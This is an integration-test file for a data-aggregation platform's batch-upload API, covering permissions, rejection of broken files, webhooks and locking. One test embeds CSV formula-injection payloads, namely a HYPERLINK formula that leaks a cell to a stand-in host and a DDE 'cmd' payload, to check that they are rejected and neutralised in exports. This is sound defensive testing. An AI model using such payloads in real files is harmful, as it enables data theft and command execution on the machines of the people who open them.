// Batches over HTTP on every engine: who may submit for which resource; bad files of every kind fail
// with a clear message and leave the store as it was; a spreadsheet-formula value is rejected and no
// export ever carries it live; the producer's ticket inbox shows only its own tickets.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { startTestServer, type TestServer } from '../support/server.js';
import { testEngines } from '../support/engines.js';
import { drainJobs } from '../support/jobs.js';
import { Client } from '../support/http.js';
import { allResources, type ResourceView } from '../../src/catalog/index.js';
import { datasetTable, liveCount } from '../../src/aggregation/index.js';
import { idCheckChar } from '../../src/platform/validators/index.js';
import { deliverOutbox, webhookSignature } from '../../src/governance/index.js';
import { importFile } from '../../src/aggregation/index.js';
import { POPULATION_COLUMNS, populationRecords, writeRecords } from '../../src/demo/data/index.js';
import { join } from 'node:path';
import { createServer, type IncomingMessage } from 'node:http';

const HEADER = '姓名,性别,公民身份号码,出生日期,联系电话,户籍地址';
const id = (seq: string) => {
  const first = `350503198001${seq}`;
  return first + idCheckChar(first);
};
const GOOD = `${HEADER}\n张一,1,${id('01001')},1980-01-01,13800138000,示例路1号\n`;

describe.each(testEngines())('batches over HTTP on %s', (engine) => {
  let server: TestServer;
  let gaj: Client;
  let population: ResourceView;

  beforeAll(async () => {
    server = await startTestServer({ demo: true, engine });
    population = (await allResources(server.ctx.database.db)).find((r) => r.name === '人口基本信息')!;
    gaj = new Client(server.url);
    await gaj.login('gaj');
  });
  afterAll(async () => server?.close());

  const upload = (client: Client, body: Buffer | string, fileName: string, resource = population.id) =>
    client.request(
      'POST',
      `/api/v1/aggregation/batches/upload?resource=${resource}&mode=upsert&fileName=${encodeURIComponent(fileName)}`,
      typeof body === 'string' ? Buffer.from(body) : body,
      {
        'content-type': 'application/octet-stream',
      },
    );

  async function runUpload(body: Buffer | string, fileName: string) {
    const r = await upload(gaj, body, fileName);
    expect([200, 202], JSON.stringify(r.body)).toContain(r.status);
    await drainJobs(server.ctx);
    return (await gaj.get(`/api/v1/aggregation/batches/${r.body.batch}`)).body;
  }

  const storeCount = async () => liveCount(server.ctx.database.db, await datasetTable(server.ctx.database.db, population.id));

  it('accepts a producer’s file and refuses another department’s', async () => {
    const b = await runUpload(GOOD, 'good.csv');
    expect(b).toMatchObject({ status: 'applied', applied: 1, rows: 1 });
    const mzj = new Client(server.url);
    await mzj.login('mzj');
    const refused = await upload(mzj, GOOD, 'x.csv');
    expect(refused.status).toBe(403);
    expect(refused.body.code).toBe('not_producer');
    // a department sees only its own batches
    const list = await mzj.get('/api/v1/aggregation/batches');
    expect(list.body.items.every((x: { unit: string }) => x.unit !== population.providerUnitId)).toBe(true);
  });

  it('fails every kind of broken file with a clear message and changes nothing', async () => {
    const before = await storeCount();
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('s').addRow(HEADER.split(','));
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    const wide = Array.from({ length: 10_000 }, (_, i) => `列${i}`).join(',') + '\n';
    const cases: [string, Buffer | string, RegExp][] = [
      ['truncated.xlsx', xlsx.subarray(0, Math.floor(xlsx.length / 2)), /xlsx|工作簿|损坏|broken|zip/i],
      ['quotes.csv', `${HEADER}\n"张二,1,${id('01003')},1980-01-01,13800138000,示例路\n`, /引号|quote/i],
      ['junk.csv', randomBytes(4096), /编码|二进制|binary|encoding|文本/i],
      ['nul.csv', Buffer.concat([Buffer.from(HEADER + '\n'), Buffer.from([0, 1, 2, 0, 0])]), /二进制|binary|NUL/i],
      ['wide.csv', wide, /列|column/i],
      [
        'latin1.csv',
        Buffer.concat([Buffer.from(HEADER + '\n张三,1,'), Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x81, 0x0a])]),
        /编码|encoding/i,
      ],
      ['missing.csv', '姓名,性别\n张四,1\n', /公民身份号码/],
      ['empty.csv', '', /空|empty/i],
    ];
    for (const [name, body, message] of cases) {
      const r = await upload(gaj, body, name);
      let outcome: { status?: number; message: string };
      if (r.status >= 400) outcome = { status: r.status, message: r.body.message };
      else {
        await drainJobs(server.ctx);
        const b = (await gaj.get(`/api/v1/aggregation/batches/${r.body.batch}`)).body;
        expect(b.status, name).toBe('failed');
        outcome = { message: b.error.message };
      }
      expect(outcome.message, name).toMatch(message);
      if (outcome.status) expect(outcome.status, name).toBeLessThan(500);
      expect(await storeCount(), name).toBe(before);
    }
  });

  it('rejects spreadsheet formulas, and its problem exports never carry them live', async () => {
    const body =
      `${HEADER}\n"=HYPERLINK(""http://x.example/?a=""&A1,""点我"")",1,${id('01005')},1980-01-01,13800138000,示例路\n` +
      `@SUM(1+1),1,${id('01007')},1980-01-01,13800138000,"=cmd|' /C calc'!A0"\n`;
    const b = await runUpload(body, 'formula.csv');
    expect(b).toMatchObject({ status: 'applied', rejected: 2, applied: 0 });
    expect(b.problems['formula:name']).toBe(2);
    const csv = await gaj.get(`/api/v1/aggregation/batches/${b.batch}/problems.csv`);
    expect(csv.status).toBe(200);
    const lines = String(csv.body)
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/)
      .slice(1);
    expect(lines.length).toBeGreaterThanOrEqual(3);
    for (const line of lines) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
  });

  it('shows a producer only its own tickets, and the regulator all of them', async () => {
    const good = id('01009');
    const wrong = good.slice(0, 17) + (good[17] === '0' ? '1' : '0');
    const b = await runUpload(`${HEADER}\n张五,1,${wrong},1980-01-01,13800138000,示例路\n`, 'bad.csv');
    expect(b.rejected).toBe(1);
    const own = await gaj.get('/api/v1/governance/tickets');
    expect(own.body.items.some((t: { batchId: string }) => t.batchId === b.batch)).toBe(true);
    const mzj = new Client(server.url);
    await mzj.login('mzj');
    expect((await mzj.get('/api/v1/governance/tickets')).body.items).toHaveLength(0);
    const ticketId = own.body.items.find((t: { batchId: string }) => t.batchId === b.batch).id;
    expect((await mzj.get(`/api/v1/governance/tickets/${ticketId}`)).status).toBe(404);
    const regulator = new Client(server.url);
    await regulator.login('regulator');
    expect((await regulator.get(`/api/v1/governance/tickets/${ticketId}`)).status).toBe(200);
  });

  it('marks the unit’s own notification read once, audited; another unit’s is unknown to it', async () => {
    const inbox = (await gaj.get('/api/v1/notifications')).body;
    const unread = inbox.items.find((n: { readAt: string | null }) => !n.readAt);
    expect(unread, JSON.stringify(inbox)).toBeDefined(); // the ticket of the test above was announced
    const mzj = new Client(server.url);
    await mzj.login('mzj');
    const foreign = await mzj.post(`/api/v1/notifications/${unread.id}/read`, {});
    expect([foreign.status, foreign.body.code]).toEqual([404, 'notification_not_found']);

    expect((await gaj.post(`/api/v1/notifications/${unread.id}/read`, {})).body).toEqual({ updated: 1 });
    expect((await gaj.post(`/api/v1/notifications/${unread.id}/read`, {})).body).toEqual({ updated: 0 });
    expect((await gaj.get('/api/v1/notifications')).body.unread).toBe(inbox.unread - 1);
    const audited = await server.ctx.database.db
      .selectFrom('audit_log')
      .select(['details', 'outcome'])
      .where('object_id', '=', unread.id)
      .where('action', '=', 'notification.read')
      .orderBy('seq')
      .execute();
    expect(audited.map((e) => [e.outcome, JSON.parse(e.details).alreadyRead])).toEqual([
      ['success', false],
      ['success', true],
    ]);
  });

  it('signs and delivers a ticket to the producer’s webhook after commit, and retries a failing one', async () => {
    const received: { headers: IncomingMessage['headers']; body: string }[] = [];
    let fail = true;
    const hook = createServer((req, res) => {
      let body = '';
      req.on('data', (d) => (body += d));
      req.on('end', () => {
        received.push({ headers: req.headers, body });
        res.statusCode = fail ? 503 : 204;
        res.end();
      });
    });
    await new Promise<void>((r) => hook.listen(0, '127.0.0.1', r));
    try {
      const port = (hook.address() as { port: number }).port;
      const created = await gaj.post('/api/v1/webhooks', { url: `http://127.0.0.1:${port}/gongshu` });
      expect(created.status).toBe(201);
      expect(created.body.secret).toMatch(/^[0-9a-f]{48}$/);
      const good = id('01011');
      const wrong = good.slice(0, 17) + (good[17] === '0' ? '1' : '0');
      await runUpload(`${HEADER}\n张六,1,${wrong},1980-01-01,13800138000,示例路\n`, 'hook.csv');
      // the first attempt fails: it stays pending with a later retry
      expect(await deliverOutbox(server.ctx.database.db, server.ctx.clock)).toBe(0);
      const pending = await server.ctx.database.db
        .selectFrom('outbox')
        .selectAll()
        .where('webhook_id', '=', created.body.id)
        .executeTakeFirstOrThrow();
      expect(pending).toMatchObject({ status: 'pending', attempts: 1, last_error: 'HTTP 503' });
      expect(pending.next_attempt_at > new Date().toISOString()).toBe(true);
      // when it is due again and the receiver is up, it is delivered, signed with the secret
      fail = false;
      await server.ctx.database.db
        .updateTable('outbox')
        .set({ next_attempt_at: new Date(0).toISOString() })
        .where('id', '=', pending.id)
        .execute();
      expect(await deliverOutbox(server.ctx.database.db, server.ctx.clock)).toBe(1);
      const last = received[received.length - 1]!;
      expect(last.headers['x-gongshu-event']).toBe('ticket.opened');
      expect(last.headers['x-gongshu-signature']).toBe(`hmac-sm3=${webhookSignature(created.body.secret, last.body)}`);
      expect(JSON.parse(last.body)).toMatchObject({ event: 'ticket.opened', records: 1 });
      const listed = await gaj.get('/api/v1/webhooks');
      expect(listed.body.items[0].deliveries[0]).toMatchObject({ status: 'delivered', attempts: 2 });
      expect(JSON.stringify(listed.body)).not.toContain(created.body.secret);
    } finally {
      hook.close();
    }
  });

  it('takes a correction file whose 记录号 column names the records it corrects, wherever that column stands', async () => {
    const good = id('01013');
    const wrong = good.slice(0, 17) + (good[17] === '0' ? '1' : '0');
    const b = await runUpload(`${HEADER}\n张七,1,${wrong},1980-01-01,13800138000,示例路\n`, 'to-correct.csv');
    expect(b.rejected).toBe(1);
    const ticket = (await gaj.get('/api/v1/governance/tickets')).body.items.find((t: { batchId: string }) => t.batchId === b.batch);
    const r = await gaj.request(
      'POST',
      `/api/v1/governance/tickets/${ticket.id}/correction-file?fileName=fix.csv`,
      Buffer.from(`记录号,${HEADER}\n1,张七,1,${good},1980-01-01,13800138000,示例路\n`),
      { 'content-type': 'application/octet-stream' },
    );
    expect(r.status).toBe(202);
    await drainJobs(server.ctx);
    const fix = (await gaj.get(`/api/v1/aggregation/batches/${r.body.batch}`)).body;
    expect(fix).toMatchObject({ status: 'applied', applied: 1, rejected: 0, unknownColumns: [] });
    const after = (await gaj.get(`/api/v1/governance/tickets/${ticket.id}`)).body;
    expect(after).toMatchObject({ status: 'resolved', recordsOpen: 0 });
    expect(after.unitName).not.toBe('');
  });

  it('keeps answering while a long batch holds the write lock: reads go on, bookkeeping writes are skipped, not waited for', async () => {
    const { database } = server.ctx;
    let waitingWrite: Promise<void> = Promise.resolve();
    const conn = await database.dedicated();
    try {
      await conn.db.transaction().execute(async (trx) => {
        await trx.updateTable('units').set({ updated_at: new Date().toISOString() }).where('code', '=', 'GAJ').execute(); // takes the lock
        // a write that must wait for the lock (any audited request) does not hold up the readers behind it
        waitingWrite = server.ctx.audit.record({ type: 'system', id: null, name: 'test', unitId: null }, { action: 'test.waiting' });
        const started = Date.now();
        const list = await gaj.get('/api/v1/aggregation/batches');
        expect(list.status).toBe(200);
        const touched = await database.touch((d) => d.updateTable('sessions').set({ last_seen_at: new Date().toISOString() }).execute());
        expect(Date.now() - started).toBeLessThan(5000); // not waiting for the lock (which this test holds until it ends)
        // SQLite skips it while another connection writes; PostgreSQL's row locks do not stand in the way
        expect(touched).toBe(engine === 'postgres');
      });
    } finally {
      await conn.close();
    }
    await waitingWrite; // and once the lock is free, the waiting write goes through
    expect(await database.touch((d) => d.updateTable('sessions').set({ last_seen_at: new Date().toISOString() }).execute())).toBe(true);
  });

  it('answers requests while a base-library merge runs', async () => {
    const csv = join(server.ctx.config.dataDir, 'merge.csv');
    await writeRecords(
      csv,
      populationRecords({ count: 30_000, seed: 31, today: '2026-11-27', rates: { badCheckDigit: 0, duplicate: 0, futureBirth: 0 } }),
      {
        format: 'csv',
        columns: POPULATION_COLUMNS,
      },
    );
    const who = {
      actor: { type: 'system' as const, id: null, name: 'test', unitId: population.providerUnitId },
      unitId: population.providerUnitId,
      anyResource: false,
    };
    await importFile(server.ctx, who, {
      resourceRef: population.id,
      path: csv,
      fileName: 'merge.csv',
      mode: 'upsert',
      owner: 'test:merge:1',
    });
    let merging = true;
    const started = Date.now();
    const merge = drainJobs(server.ctx).finally(() => (merging = false));
    const waits: number[] = [];
    while (merging) {
      const t = Date.now();
      expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
      waits.push(Date.now() - t);
      await new Promise((r) => setTimeout(r, 20));
    }
    await merge;
    const took = Date.now() - started;
    expect(took).toBeGreaterThan(200); // the merge took long enough to say something
    // answered again and again while it ran, none waiting anywhere near the whole merge (a loaded CI
    // machine slows both sides alike, so the bound is relative)
    expect(waits.length).toBeGreaterThanOrEqual(4);
    expect(Math.max(...waits)).toBeLessThan(took / 2);
  });
});
